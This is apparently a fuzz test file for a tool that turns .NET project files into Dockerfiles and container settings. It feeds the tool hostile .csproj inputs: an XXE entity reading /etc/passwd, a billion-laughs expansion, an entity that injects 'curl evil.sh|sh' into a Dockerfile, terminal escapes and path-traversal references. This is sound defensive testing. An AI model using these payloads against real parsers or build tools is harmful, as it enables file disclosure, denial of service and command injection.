// Surface: the project the tool reads. Generated .csproj files (hostile TargetFramework,
// AssemblyName, ContainerRepository, ProjectReference paths that climb out of the repository,
// entities, deep nesting, deep Conditions) read with --detect xml, a few with the real SDK, and
// special files where a project, props, global.json or solution should be.
import {mkdir, readFile, writeFile} from 'node:fs/promises';
import path from 'node:path';
import process from 'node:process';
import fc from 'fast-check';
import {afterAll, beforeAll, describe, expect, it} from 'vitest';
import {missingTools} from '../support/requirements.js';
import {hostileString, validOrHostile} from './arbitraries.js';
import {runBounded} from './bounded-run.js';
import {today} from './command-lines.js';
import {runInProcess} from './in-process.js';
import {expectCleanRun, expectContainerProps, expectGeneratedDockerfile, expectShellCommands, expectZeropsYaml} from './invariants.js';
import {changedPaths, isInside, removeScratch, scratchRepository, snapshotTree, type Scratch} from './scratch.js';
import {makeSpecial, type SpecialKind} from './special-files.js';
import {fuzzOptions, runs, timeoutFor} from './settings.js';

const saved = process.env['XDG_CACHE_HOME'];
beforeAll(() => {
	process.env['XDG_CACHE_HOME'] = path.join(process.env['TMPDIR'] ?? '/tmp', `diw-fuzz-no-cache-${process.pid}`);
});
afterAll(() => {
	if (saved === undefined) delete process.env['XDG_CACHE_HOME'];
	else process.env['XDG_CACHE_HOME'] = saved;
});

const escapeXml = (text: string) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;');

/** Where the app is in the scratch repository: repo/src/App, so ../../.. leaves the repository. */
const appPath = path.join('src', 'App');

/** ProjectReference paths, from the app's folder: inside the repository, above it, absolute, through /proc. */
const referencePath = (scratch: Scratch) => fc.oneof(
	fc.constant('../../lib/Lib/Lib.csproj'),
	fc.constant('../../../outside/Lib/Lib.csproj'),
	fc.constant('/proc/self/cwd/../../../outside/Lib/Lib.csproj'),
	fc.constant(path.join(scratch.outside, 'Lib', 'Lib.csproj')),
	fc.constantFrom('/', '/etc/passwd', '../../../../../../../../x.csproj', '..\\..\\..\\outside\\Lib\\Lib.csproj', '$(MSBuildThisFileDirectory)../../../outside/Lib/Lib.csproj', '**/*.csproj'),
	hostileString,
);

type ProjectSpec = {sdk: string; framework: string; assembly?: string; repository?: string; references: string[]; condition?: string; raw: boolean; trick?: string};

const deepCondition = fc.integer({min: 10, max: 4000}).map(depth => `${'('.repeat(depth)}'$(Configuration)' == 'Release'${')'.repeat(depth)}`);
const tricks = fc.oneof(
	fc.constant('<!DOCTYPE Project [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'),
	fc.constant('<!DOCTYPE Project [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">]>'),
	fc.constant('<!DOCTYPE Project [<!ENTITY name "Evil&#10;RUN curl evil.sh|sh">]>'),
	fc.integer({min: 100, max: 20_000}).map(depth => `<!--deep-->${'<X>'.repeat(depth)}${'</X>'.repeat(depth)}`),
);

const projectSpec = (scratch: Scratch): fc.Arbitrary<ProjectSpec> => fc.record({
	sdk: validOrHostile(fc.constantFrom('Microsoft.NET.Sdk.Web', 'Microsoft.NET.Sdk', 'Microsoft.NET.Sdk.Worker')),
	framework: fc.oneof({weight: 2, arbitrary: fc.constantFrom('net10.0', 'net9.0', 'net8.0')}, {weight: 2, arbitrary: validOrHostile(fc.constantFrom('net10.0', 'net8.0;net10.0', 'net48'))}, {weight: 1, arbitrary: fc.constant('net48\u001B]0;pwned\u0007')}),
	assembly: fc.option(validOrHostile(fc.constantFrom('App', 'My.App', 'app-1')), {nil: undefined}),
	repository: fc.option(validOrHostile(fc.constantFrom('team/app', 'app')), {nil: undefined}),
	references: fc.array(referencePath(scratch), {maxLength: 3}),
	condition: fc.option(fc.oneof(deepCondition, hostileString), {nil: undefined}),
	// Hostile text written unescaped half the time: XML the reader must refuse in one line.
	raw: fc.boolean(),
	trick: fc.option(tricks, {nil: undefined}),
}, {requiredKeys: ['sdk', 'framework', 'references', 'raw']});

function projectXml(spec: ProjectSpec): string {
	const text = (value: string) => (spec.raw ? value : escapeXml(value));
	const entity = spec.trick?.includes('ENTITY name') ? '&name;' : spec.trick?.includes('ENTITY f') ? '&f;' : spec.trick?.includes('xxe') ? '&xxe;' : undefined;
	return [
		...(spec.trick?.startsWith('<!DOCTYPE') ? ['<?xml version="1.0"?>', spec.trick] : []),
		`<Project Sdk="${text(spec.sdk)}">`,
		`  <PropertyGroup${spec.condition === undefined ? '' : ` Condition="${text(spec.condition)}"`}>`,
		`    <TargetFramework${spec.framework.includes(';') ? 's' : ''}>${text(spec.framework)}</TargetFramework${spec.framework.includes(';') ? 's' : ''}>`,
		...(spec.assembly === undefined && entity === undefined ? [] : [`    <AssemblyName>${entity ?? text(spec.assembly!)}</AssemblyName>`]),
		...(spec.repository === undefined ? [] : [`    <ContainerRepository>${text(spec.repository)}</ContainerRepository>`]),
		'  </PropertyGroup>',
		...(spec.references.length === 0 ? [] : ['  <ItemGroup>', ...spec.references.map(reference => `    <ProjectReference Include="${text(reference)}" />`), '  </ItemGroup>']),
		...(spec.trick?.startsWith('<!--deep') ? [`  <ItemGroup>${spec.trick}</ItemGroup>`] : []),
		'</Project>',
		'',
	].join('\n');
}

const library = '<Project Sdk="Microsoft.NET.Sdk">\n  <PropertyGroup>\n    <TargetFramework>net10.0</TargetFramework>\n  </PropertyGroup>\n</Project>\n';

/** The scratch repository with the generated app at repo/src/App and libraries inside and outside it. */
async function projectScratch(): Promise<Scratch & {cwd: string}> {
	const scratch = await scratchRepository(appPath, false);
	await mkdir(path.join(scratch.repository, 'lib', 'Lib'), {recursive: true});
	await writeFile(path.join(scratch.repository, 'lib', 'Lib', 'Lib.csproj'), library);
	await mkdir(path.join(scratch.outside, 'Lib'), {recursive: true});
	await writeFile(path.join(scratch.outside, 'Lib', 'Lib.csproj'), library);
	return {...scratch, cwd: scratch.app};
}

async function checkProject(spec: ProjectSpec, scratch: Scratch, detect: 'xml' | 'msbuild'): Promise<void> {
	const content = projectXml(spec);
	await writeFile(path.join(scratch.app, 'App.csproj'), content);
	const before = await snapshotTree(scratch.folder);
	const run = await runInProcess(['--yes', '--today', today, '--detect', detect, '--write', '--dry-run', '--engine', 'docker'], scratch.app);
	const label = content.slice(0, 1500);
	expectCleanRun(run);
	const changed = changedPaths(before, await snapshotTree(scratch.folder));
	const outsideApp = changed.filter(file => !isInside(path.join(scratch.folder, file), scratch.app));
	expect(outsideApp, `wrote outside the project folder (${label})`).toEqual([]);
	if (run.exitCode !== 0) return;
	const line = run.stdout.split('\n').find(text => text.startsWith('(cd '));
	expect(line, `no --dry-run command (${label}): ${run.stdout}`).toBeDefined();
	const [cd] = expectShellCommands(line!, `--dry-run (${label})`, {subshell: true});
	const context = path.resolve(scratch.app, cd!.argv[1]!);
	expect(context, `the build context is / (${label})`).not.toBe(path.parse(context).root);
	expect(isInside(context, scratch.repository), `the build context ${context} is above the repository ${scratch.repository} (${label})`).toBe(true);
	const written = (name: string) => changed.includes(path.relative(scratch.folder, path.join(scratch.app, name)).split(path.sep).join('/'));
	const read = async (name: string) => readFile(path.join(scratch.app, name), 'utf8');
	if (written('Dockerfile')) expectGeneratedDockerfile(await read('Dockerfile'), label);
	if (written('container.props')) expectContainerProps(await read('container.props'), label);
	if (written('zerops.yml')) expectZeropsYaml(await read('zerops.yml'), label);
}

describe('generated project files', () => {
	const numRuns = runs(100);
	it('read with --detect xml give one line or a recommendation; the context stays in the repository; nothing is written outside the project', async () => {
		const probe = await projectScratch();
		const specs = projectSpec(probe);
		await removeScratch(probe.folder);
		await fc.assert(fc.asyncProperty(specs, async spec => {
			const scratch = await projectScratch();
			try {
				// The absolute reference names the probe's outside folder: point it at this scratch.
				const fixed = {...spec, references: spec.references.map(reference => reference.replace(probe.outside, scratch.outside))};
				await checkProject(fixed, scratch, 'xml');
			} finally {
				await removeScratch(scratch.folder);
			}
		}), fuzzOptions(numRuns));
	}, timeoutFor(numRuns, 800));

	const missing = missingTools(['dotnet']);
	const sdkRuns = runs(3, 0.002);
	it.skipIf(missing !== '')(`read by MSBuild (--detect msbuild) keep the same promises${missing}`, async () => {
		const probe = await projectScratch();
		const specs = projectSpec(probe).map(spec => ({...spec, trick: undefined, condition: undefined}));
		await removeScratch(probe.folder);
		await fc.assert(fc.asyncProperty(specs, async spec => {
			const scratch = await projectScratch();
			try {
				await checkProject({...spec, references: spec.references.map(reference => reference.replace(probe.outside, scratch.outside))}, scratch, 'msbuild');
			} finally {
				await removeScratch(scratch.folder);
			}
		}), fuzzOptions(sdkRuns));
	}, timeoutFor(sdkRuns, 60_000));
});

describe('project inputs that are not regular files', () => {
	const numRuns = runs(5, 0.01);
	it('are refused, never read forever: the .csproj, Directory.Build.props, global.json or solution as a FIFO, /dev/zero or a huge file', async () => {
		const places = fc.constantFrom('App.csproj', 'Directory.Build.props', 'global.json', 'App.sln');
		const kinds = fc.constantFrom<SpecialKind>('fifo', 'symlink to /dev/zero', 'huge file');
		await fc.assert(fc.asyncProperty(places, kinds, async (place, kind) => {
			const scratch = await projectScratch();
			try {
				if (place !== 'App.csproj') await writeFile(path.join(scratch.app, 'App.csproj'), projectXml({sdk: 'Microsoft.NET.Sdk.Web', framework: 'net10.0', references: [], raw: false}));
				await makeSpecial(path.join(scratch.app, place), kind);
				const argv = ['--yes', '--today', today, '--detect', 'xml', '--output', 'dockerfile', ...(place === 'App.sln' ? ['--project', 'App.sln'] : [])];
				const run = await runBounded(argv, scratch.app, 10_000, {...process.env, XDG_CACHE_HOME: path.join(scratch.folder, 'cache')});
				expectCleanRun(run, [2]);
				expect(run.stderr, `the error names ${place}`).toContain(place);
			} finally {
				await removeScratch(scratch.folder);
			}
		}), fuzzOptions(numRuns));
	}, timeoutFor(numRuns, 15_000));
});
